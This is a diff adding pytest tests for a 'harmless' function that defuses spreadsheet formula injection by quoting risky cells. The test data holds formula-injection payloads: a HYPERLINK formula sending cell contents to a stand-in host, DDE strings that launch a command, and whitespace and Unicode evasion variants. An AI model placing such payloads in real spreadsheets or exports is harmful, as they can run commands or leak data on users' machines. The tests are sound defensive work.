@@ -6,7 +6,14 @@ from datetime import date
 import pytest
 from pydantic_core import PydanticCustomError
 
-from steering.contract.text import clean, fold, parse_date, parse_number, parse_whole_number
+from steering.contract.text import (
+    clean,
+    fold,
+    harmless,
+    parse_date,
+    parse_number,
+    parse_whole_number,
+)
 
 
 def reason(parse: Callable[[object], object], cell: str) -> str:
@@ -189,3 +196,35 @@ def test_case_blanks_hyphens_underscores_and_spelling_do_not_count(one: str, oth
 def test_different_letters_stay_different() -> None:
     words = ["type", "typer", "tøj", "tåj", "taj", "toj", "team", "cpr", "cvr"]
     assert len({fold(word) for word in words}) == len(words)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://x.example?"&A1)',
+    "+SUM(A1:A9)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\t",
+    "  =1+1",
+    "\u00a0=1+1",
+    "\ufeff=1+1",
+    '"=1+1',
+    "＝1+1",
+    "-\n=1",
+    "+45 12 34 56 78",
+]
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+def test_what_a_spreadsheet_would_compute_becomes_text(cell: str) -> None:
+    assert harmless(cell) == f"'{cell}"
+    assert harmless(harmless(cell)) == harmless(cell)
+
+
+@pytest.mark.parametrize(
+    "cell", ["-3", "+4,5", "-0.25", "3", "", "-", "=", "a=b", "ø@x.dk", "2025-03-28", "'=1"]
+)
+def test_numbers_and_plain_texts_stay_as_they_are(cell: str) -> None:
+    assert harmless(cell) == cell
